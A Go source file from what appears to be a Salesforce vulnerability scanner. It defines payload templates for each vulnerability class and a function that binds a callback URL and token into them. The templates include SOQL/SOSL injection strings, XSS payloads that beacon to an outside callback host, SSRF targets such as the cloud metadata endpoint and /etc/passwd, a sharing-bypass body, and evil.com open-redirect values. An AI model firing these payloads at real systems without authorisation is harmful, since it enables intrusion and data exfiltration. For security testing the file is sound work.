package injector

import (
	"math/rand"
	"strings"

	"github.com/forcetrace/forcetrace/pkg/types"
)

// Payload templates per vulnerability class. CALLBACK_URL and TOKEN are
// substituted at injection time so the exfil path carries the correlation
// token back to the listener.
var payloadTemplates = map[types.VulnCategory][]string{
	types.VulnSOQLInjection: {
		"' OR '1'='1",
		"' OR Name LIKE '%",
		"') OR (Id != null AND Id != '",
		"' UNION SELECT Id, Name FROM Account--",
		"\\' OR Id != null--",
	},
	types.VulnSOSLInjection: {
		"test}] OR [FIND {*",
		"test*}] IN ALL FIELDS RETURNING Account(Id, Name, (SELECT Id FROM Contacts))--",
	},
	types.VulnAuraComponent: {
		`{"actions":[{"descriptor":"apex://CustomController/ACTION$getData","params":{}}]}`,
		`{"actions":[{"descriptor":"serviceComponent://ui.communities.components.aura.components.forceCommunity.richText.RichTextController/ACTION$getParsedRichTextValue","params":{"html":"<img src=x onerror=alert(1)>"}}]}`,
	},
	types.VulnLightningXSS: {
		`<img src=x onerror="fetch('CALLBACK_URL?token=TOKEN')">`,
		`<svg onload="new Image().src='CALLBACK_URL?token=TOKEN'">`,
		`"><script src="CALLBACK_URL?token=TOKEN"></script>`,
		`javascript:fetch("CALLBACK_URL?token=TOKEN")`,
	},
	types.VulnSharingBypass: {
		`{"recordId":"001000000000001","bypassSharing":true}`,
	},
	types.VulnSSRF: {
		"http://169.254.169.254/latest/meta-data/",
		"http://localhost:8080/admin",
		"file:///etc/passwd",
	},
	types.VulnOpenRedirect: {
		"//evil.com",
		`/\evil.com`,
		"https://evil.com?",
	},
}

// SelectPayload picks a payload template for a vulnerability class and
// binds the callback URL and token into it. Classes without templates get
// an empty string; injection still proceeds because the token itself is
// the probe.
func SelectPayload(vulnType types.VulnCategory, callbackURL, token string) string {
	templates := payloadTemplates[vulnType]
	if len(templates) == 0 {
		return ""
	}
	payload := templates[rand.Intn(len(templates))]
	payload = strings.ReplaceAll(payload, "CALLBACK_URL", callbackURL)
	payload = strings.ReplaceAll(payload, "TOKEN", token)
	return payload
}
